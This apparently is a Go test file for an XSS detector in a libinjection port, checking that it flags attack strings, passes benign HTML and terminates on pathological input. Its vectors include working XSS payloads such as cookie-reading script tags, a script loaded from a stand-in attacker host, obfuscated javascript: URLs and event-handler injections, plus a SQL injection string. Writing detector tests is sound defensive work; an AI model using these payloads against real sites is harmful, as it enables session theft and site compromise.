package libinjection

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestIsXssVectors(t *testing.T) {
	cases := []string{
		"<script>alert(document.cookie)</script>",
		"<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
		"<style>*{behavior:url(#default#time2)}</style>",
		"<IMG SRC=\"javascript:alert('XSS');\">",
		"<img src='vbscript:msgbox(1)'>",
		"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
		"<a href=\"view-source:http://example.com/\">x</a>",
		"<a href=\"  \x00jAvAsCrIpT:alert(1)\">x</a>",
		"<div onmouseover=\"alert(1)\">hover</div>",
		"x\" onerror=\"alert(1)",
		"x' onload='alert(1)",
		"<!--[if gte IE 4]><script>x</script><![endif]-->",
		"<!-- `bad -->",
		"<!DOCTYPE html><p>x</p>",
		"<svgfoo onload=x>",
		"<set attributename='onmouseover' to='alert(1)'>",
		"<x xmlns:xlink='http://www.w3.org/1999/xlink'>",
		"<iframe src=x>",
		"<embed src=x>",
	}
	for _, input := range cases {
		assert.Equal(t, ResultMatch, IsXss([]byte(input)), "attack %q not detected", input)
	}
}

func TestIsXssBenign(t *testing.T) {
	cases := []string{
		"",
		"hello world",
		"<p>hello</p>",
		"<a href=\"http://example.com/\">link</a>",
		"<b>5 > 3 < 7</b>",
		"img src=x",
		"a quote: \"to be or not to be\"",
	}
	for _, input := range cases {
		assert.Equal(t, ResultNone, IsXss([]byte(input)), "false positive on %q", input)
	}
}

/*
 * a URL attribute with no script scheme still goes through the SQL
 * detector: href is a second-order SQL sink
 */
func TestIsXssHybridSqlInUrlAttribute(t *testing.T) {
	assert.Equal(t, ResultMatch, IsXss([]byte("<a href=\"' OR '1'='1\">x</a>")))
	assert.Equal(t, ResultNone, IsXss([]byte("<a href=\"/search?q=hello\">x</a>")))
}

func TestIsXssCaseAndNulls(t *testing.T) {
	assert.Equal(t, ResultMatch, IsXss([]byte("<ScRiPt>alert(1)</script>")))
	/* legacy IE drops NUL bytes before parsing */
	assert.Equal(t, ResultMatch, IsXss([]byte("<scr\x00ipt>alert(1)</script>")))
}

func TestIsXssTermination(t *testing.T) {
	inputs := []string{
		strings.Repeat("<", 10000),
		strings.Repeat("<div>", 1000),
		"<div<div<div" + strings.Repeat("<", 100),
		strings.Repeat("<!--", 1000),
		strings.Repeat("'\"`", 3000),
	}
	for _, input := range inputs {
		require.NotEqual(t, ResultError, IsXss([]byte(input)))
	}
}

func TestBlackUrlSkipsLeadingControls(t *testing.T) {
	assert.True(t, is_black_url(" \t\x01javascript:x"))
	assert.True(t, is_black_url("java\x00script:x"))
	assert.False(t, is_black_url("http://example.com/"))
	assert.False(t, is_black_url("javascript"))
}

func TestBlackAttrClassification(t *testing.T) {
	assert.Equal(t, attr_type_black, is_black_attr("onclick"))
	assert.Equal(t, attr_type_black, is_black_attr("ONERROR"))
	assert.Equal(t, attr_type_attr_url, is_black_attr("href"))
	assert.Equal(t, attr_type_style, is_black_attr("style"))
	assert.Equal(t, attr_type_attr_indirect, is_black_attr("attributename"))
	assert.Equal(t, attr_type_none, is_black_attr("class"))
	assert.Equal(t, attr_type_none, is_black_attr("id"))
}
